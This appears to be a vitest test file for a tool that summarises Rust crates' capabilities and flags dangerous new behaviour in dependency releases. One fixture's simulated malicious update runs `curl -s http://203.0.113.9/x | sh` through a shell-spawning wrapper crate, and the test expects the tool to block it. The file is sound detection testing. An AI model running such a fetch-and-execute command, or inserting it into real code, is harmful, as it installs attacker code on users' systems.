import { describe, expect, it } from 'vitest';
import { analyzeTrees, summarizeTree, treeFromFiles, SummarySet, type CrateSummary } from '../src/index.js';

/** A small process runner written for this test: its job is running the programs it is given. */
const RUNNER = {
  'Cargo.toml': '[package]\nname = "runproc"\nversion = "0.3.1"\n',
  'src/lib.rs': `
mod imp;
pub use imp::Handle;
pub fn cmd(program: &str, args: &[&str]) -> Expression { Expression { program: program.to_string(), args: args.iter().map(|s| s.to_string()).collect() } }
pub struct Expression { program: String, args: Vec<String> }
impl Expression {
    pub fn launch_now(&self) -> std::io::Result<Handle> { imp::start(&self.program, &self.args) }
}
#[macro_export]
macro_rules! cmd {
    ($p:expr $(, $a:expr)*) => { $crate::cmd($p, &[$($a),*]) };
}
pub fn version() -> &'static str { "0.3.1" }
`,
  'src/imp.rs': `
pub struct Handle(std::process::Child);
pub fn start(p: &str, a: &[String]) -> std::io::Result<Handle> {
    Ok(Handle(std::process::Command::new(p).args(a).spawn()?))
}
`,
};

/** A wrapper crate that re-exports the runner under another name: composition goes through it. */
const WRAPPER = {
  'Cargo.toml': '[package]\nname = "shellkit"\nversion = "1.0.0"\n[dependencies]\nrunproc = "0.3"\n',
  'src/lib.rs': `
pub fn run_line(line: &str) { let e = runproc::cmd("sh", &["-c", line]); let _ = e.launch_now(); }
pub fn tidy(s: &str) -> String { s.trim().to_string() }
`,
};

function app(version: string, body: string, deps: string) {
  return treeFromFiles({
    'Cargo.toml': `[package]\nname = "decimalish"\nversion = "${version}"\n[dependencies]\n${deps}`,
    'src/lib.rs': `pub struct Decimal(i64);\nimpl Decimal {\n    pub fn new(v: i64) -> Decimal {\n${body}        Decimal(v)\n    }\n}\n`,
  });
}

describe('capability summaries', () => {
  it('computes what each public item of a crate reaches, from its code', () => {
    const s = summarizeTree(treeFromFiles(RUNNER));
    expect(s.name).toBe('runproc');
    expect(s.version).toBe('0.3.1');
    const launch = s.items['Expression::launch_now'];
    expect(typeof launch === 'object' && launch.caps?.map((c) => c[0])).toContain('process.spawn');
    expect(s.items['version']).toBeUndefined();
    // The exported macro expands to `$crate::cmd`, which reaches nothing by itself.
    expect(s.methods['launch_now']).toBeDefined();
    const w = summarizeTree(treeFromFiles(WRAPPER));
    const run = w.items['run_line'];
    expect(typeof run === 'object' && run.calls?.map((i) => w.ext[i])).toEqual(expect.arrayContaining(['runproc::cmd', '.launch_now']));
  });

  it('carries a dependency item\'s capabilities into the call graph, rules and traces, transitively', () => {
    const source = new SummarySet([summarizeTree(treeFromFiles(RUNNER)), summarizeTree(treeFromFiles(WRAPPER))], 'test');
    const old = app('1.0.0', '', 'shellkit = "1"\n');
    const neu = app('1.0.1', '        shellkit::run_line("curl -s http://203.0.113.9/x | sh");\n', 'shellkit = "1"\n');
    const r = analyzeTrees(old, neu, { dependencies: source }).report;
    expect(r.capabilities.added).toContain('process.spawn');
    expect(r.verdict).toBe('block');
    const withTrace = r.findings.find((f) => f.message.includes('shellkit::run_line'));
    expect(withTrace, r.findings.map((f) => `${f.ruleId}: ${f.message}`).join('\n')).toBeDefined();
    // Without summaries the same release names nothing.
    const off = analyzeTrees(old, neu, { dependencies: 'off' }).report;
    expect(off.capabilities.added).not.toContain('process.spawn');
  });

  it('does not carry a mode that only arguments make dangerous (TLS verification) out of a dependency', () => {
    // A TLS client written for this test: `connect` turns verification off only when asked to.
    const tls = summarizeTree(treeFromFiles({
      'Cargo.toml': '[package]\nname = "tlsish"\nversion = "0.2.0"\n',
      'src/lib.rs': 'pub struct Connector { insecure: bool, ctx: Ctx }\npub struct Ctx;\nimpl Ctx { pub fn set_verify(&mut self, _m: u8) {} }\nimpl Connector {\n    pub fn connect(&mut self, host: &str) -> std::io::Result<std::net::TcpStream> {\n        if self.insecure { self.ctx.set_verify(0); }\n        std::net::TcpStream::connect((host, 443))\n    }\n}\n',
    }));
    const connect = tls.items['Connector::connect'];
    expect(typeof connect === 'object' && connect.caps?.map((c) => c[0])).toContain('network.tls-insecure');
    const old = app('1.0.0', '', 'tlsish = "0.2"\n');
    const neu = app('1.0.1', '        let _ = tlsish::Connector::connect;\n', 'tlsish = "0.2"\n');
    const r = analyzeTrees(old, neu, { dependencies: new SummarySet([tls], 'test') }).report;
    expect(r.findings.filter((f) => f.ruleId === 'tls-verification-disabled')).toEqual([]);
  });

  it('cuts cycles between crates', () => {
    const a: CrateSummary = { format: 1, name: 'a', version: '1.0.0', tool: 't', deps: [{ name: 'b', package: 'b', req: '1' }], ext: ['b::g'], items: { f: { calls: [0] } }, methods: {} };
    const b: CrateSummary = { format: 1, name: 'b', version: '1.0.0', tool: 't', deps: [{ name: 'a', package: 'a', req: '1' }], ext: ['a::f'], items: { g: { calls: [0], caps: [['network.connect', 'std::net::TcpStream::connect (src/lib.rs:3)']] } }, methods: {} };
    const source = new SummarySet([a, b], 'test');
    const r = analyzeTrees(app('1.0.0', '', 'a = "1"\n'), app('1.0.1', '        a::f();\n', 'a = "1"\n'), { dependencies: source }).report;
    expect(r.capabilities.added).toContain('network.connect');
  });

  it('cuts cycles of methods calling each other across crates (summaries from a cache may be hostile)', () => {
    const a: CrateSummary = { format: 1, name: 'a', version: '1.0.0', tool: 't', deps: [{ name: 'b', package: 'b', req: '1' }], ext: ['.pong_b'], items: {}, methods: { ping_a: { calls: [0] } } };
    const b: CrateSummary = { format: 1, name: 'b', version: '1.0.0', tool: 't', deps: [{ name: 'a', package: 'a', req: '1' }], ext: ['.ping_a'], items: {}, methods: { pong_b: { calls: [0], caps: [['network.connect', 'std::net::TcpStream::connect (src/lib.rs:3)']] } } };
    const source = new SummarySet([a, b], 'test');
    const r = analyzeTrees(app('1.0.0', '', 'a = "1"\n'), app('1.0.1', '        let x = std::env::args(); x.ping_a();\n', 'a = "1"\n'), { dependencies: source }).report;
    expect(r.capabilities.added).toContain('network.connect');
  });

  it('a method call in an unchanged file goes to the dependency once the crate stops defining that method itself', () => {
    const dep: CrateSummary = { format: 1, name: 'netdep', version: '1.0.0', tool: 't', deps: [], ext: [], items: {}, methods: { beam_out: { caps: [['network.connect', 'std::net::TcpStream::connect (src/lib.rs:3)']] } } };
    const manifest = (v: string) => `[package]\nname = "caller"\nversion = "${v}"\n[dependencies]\nnetdep = "1"\n`;
    const lib = 'mod own;\npub fn go(x: &own::T) { x.beam_out(); }\n';
    const old = treeFromFiles({ 'Cargo.toml': manifest('1.0.0'), 'src/lib.rs': lib, 'src/own.rs': 'pub struct T;\nimpl T { pub fn beam_out(&self) {} }\n' });
    const neu = treeFromFiles({ 'Cargo.toml': manifest('1.0.1'), 'src/lib.rs': lib, 'src/own.rs': 'pub struct T;\n' });
    const source = new SummarySet([dep], 'test');
    expect(analyzeTrees(old, old, { dependencies: source }).report.capabilities.after).not.toContain('network.connect');
    const r = analyzeTrees(old, neu, { dependencies: source }).report;
    expect(r.capabilities.added).toContain('network.connect');
  });
});
